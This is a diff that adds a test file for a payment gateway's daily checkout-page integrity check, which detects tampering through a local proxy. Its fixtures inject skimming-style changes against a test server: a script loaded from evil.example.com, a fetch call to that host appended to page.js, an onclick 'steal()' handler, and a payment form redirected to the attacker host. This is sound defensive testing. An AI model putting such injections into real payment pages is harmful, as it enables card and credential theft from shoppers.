@@ -1,0 +1,165 @@
+import { createServer, type Server } from 'node:http';
+import { buffer } from 'node:stream/consumers';
+import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
+import { addSite } from '../../src/domain/checkout/settings.ts';
+import { day_ms, hour_ms } from '../../src/values/dates.ts';
+import { createOperator } from '../support/command.ts';
+import { OpenedCheckout } from '../support/checkout.ts';
+import { freePort, startTestGateway, type TestGateway } from '../support/gateway.ts';
+
+/** What stands between customers and the gateway changes what goes through it. */
+type Tamper = (path: string, answer: { headers: Headers; text: string; status: number }) => void;
+
+let gateway: TestGateway;
+let between: Server;
+let tamper: Tamper = () => {};
+beforeAll(async () => {
+  const [port, own_port] = await Promise.all([freePort(), freePort()]);
+  between = createServer((request, response) => {
+    void (async () => {
+      const path = request.url ?? '/';
+      const body = request.method === 'POST' ? await buffer(request) : null;
+      const got = await fetch(`http://127.0.0.1:${port}${path}`, { method: request.method ?? 'GET', body });
+      const answer = { headers: new Headers(got.headers), status: got.status, text: await got.text() };
+      tamper(path, answer);
+      for (const name of ['content-encoding', 'content-length', 'transfer-encoding', 'connection'])
+        answer.headers.delete(name);
+      response.writeHead(answer.status, Object.fromEntries(answer.headers)).end(answer.text);
+    })();
+  });
+  await new Promise<void>((resolve) => between.listen(own_port, '127.0.0.1', resolve));
+  gateway = await startTestGateway({
+    environment: { PORT: String(port), PUBLIC_URL: `http://127.0.0.1:${own_port}` },
+  });
+});
+afterAll(async () => {
+  between.close();
+  await gateway.close();
+});
+beforeEach(() => {
+  tamper = () => {};
+});
+
+const rows = (): Promise<{ findings: string[]; inventory: Record<string, string> }[]> =>
+  gateway.query('SELECT findings, inventory FROM checkout_page_checks ORDER BY checked_on');
+
+describe('the payment page as it is served', () => {
+  it('is checked once a day, with an inventory of its scripts, and nothing found', async () => {
+    const client = await gateway.createClient();
+    await OpenedCheckout.create(client);
+    await gateway.work();
+    await gateway.work(hour_ms / 60);
+    const [first, ...none] = await rows();
+    expect(none).toEqual([]);
+    expect(first).toEqual({
+      findings: [],
+      inventory: {
+        'page.js': expect.stringMatching(/^sha384-/),
+        'page.css': expect.stringMatching(/^sha384-/),
+      },
+    });
+    await addSite(gateway.gateway.context, client.account_id, 'https://shop.example.com');
+    await gateway.work(day_ms);
+    expect((await rows()).map(({ findings }) => findings)).toEqual([[], []]);
+  });
+
+  it.each<[string, string, Tamper]>([
+    [
+      'another script',
+      'has <script src="https://evil.example.com/x.js">',
+      (path, answer) => {
+        if (path.includes('/cs_'))
+          answer.text = answer.text.replace(
+            '</head>',
+            '<script src="https://evil.example.com/x.js"></script></head>',
+          );
+      },
+    ],
+    [
+      'a script that was changed',
+      'page.js is served as sha384-',
+      (path, answer) => {
+        if (path.endsWith('.js')) answer.text += ';fetch("https://evil.example.com")';
+      },
+    ],
+    [
+      'a document that was changed',
+      'the page without a session is not the document that was built',
+      (path, answer) => {
+        if (path.startsWith('/checkout/0/'))
+          answer.text = answer.text.replace('<main>', '<main onclick="steal()">');
+      },
+    ],
+    [
+      'a script without its integrity',
+      'a session’s page lacks <script src=',
+      (path, answer) => {
+        if (path.includes('/cs_')) answer.text = answer.text.replaceAll(/integrity="[^"]*"/g, '');
+      },
+    ],
+    [
+      'a form that sends elsewhere',
+      'has <form id="pay-form" action="https://evil.example.com"',
+      (_path, answer) => {
+        answer.text = answer.text.replace(
+          '<form id="pay-form"',
+          '<form id="pay-form" action="https://evil.example.com"',
+        );
+      },
+    ],
+    [
+      'a weaker policy',
+      'has the header content-security-policy: null',
+      (_path, { headers }) => headers.delete('content-security-policy'),
+    ],
+    [
+      'an error',
+      'a session’s page is answered with 502',
+      (path, answer) => {
+        if (path.includes('/cs_')) answer.status = 502;
+      },
+    ],
+  ])('with %s is found out, logged and written down', async (_what, finding, change) => {
+    await OpenedCheckout.create(await gateway.createClient());
+    tamper = change;
+    const logged = gateway.log_lines.length;
+    await gateway.work(day_ms);
+    const found = (await rows()).at(-1)?.findings.join('\n');
+    expect(found).toContain(finding);
+    expect(found).not.toContain('/cs_');
+    expect(gateway.log_lines.slice(logged).join('\n')).toContain(
+      'the payment page is not served as it was built',
+    );
+  });
+
+  it('is checked again within the hour after a finding, which stays written down', async () => {
+    const found = (await rows()).at(-1)?.findings;
+    expect(found).not.toEqual([]);
+    tamper = (path, { headers }) => {
+      if (path.startsWith('/checkout/')) headers.set('referrer-policy', 'unsafe-url');
+    };
+    const count = (await rows()).length;
+    await gateway.work(hour_ms / 2);
+    expect((await rows()).slice(0, count).at(-1)?.findings).toEqual(found);
+    await gateway.gateway.page_check.now();
+    expect((await rows()).at(-1)?.findings.join('\n')).toContain('referrer-policy: unsafe-url');
+  });
+});
+
+describe('gateway checkout check', { timeout: 120_000 }, () => {
+  it('ends with 0 when nothing is found, with 1 and the finding when something is, and checks lists both', async () => {
+    const { port } = new URL(gateway.url);
+    const operator = createOperator(gateway.connection, { PORT: port });
+    const good = await operator.run('checkout', 'check', '--json');
+    expect([good.code, JSON.parse(good.output).findings]).toEqual([0, []]);
+    tamper = (path, answer) => {
+      if (path.endsWith('.css')) answer.text = '';
+    };
+    const bad = await operator.run('checkout', 'check');
+    expect(bad.code).toBe(1);
+    expect(bad.output).toContain('page.css is served as sha384-');
+    const [newest] = await operator.json('checkout', 'checks');
+    expect(newest.findings.length).toBeGreaterThan(0);
+    operator.remove();
+  });
+});
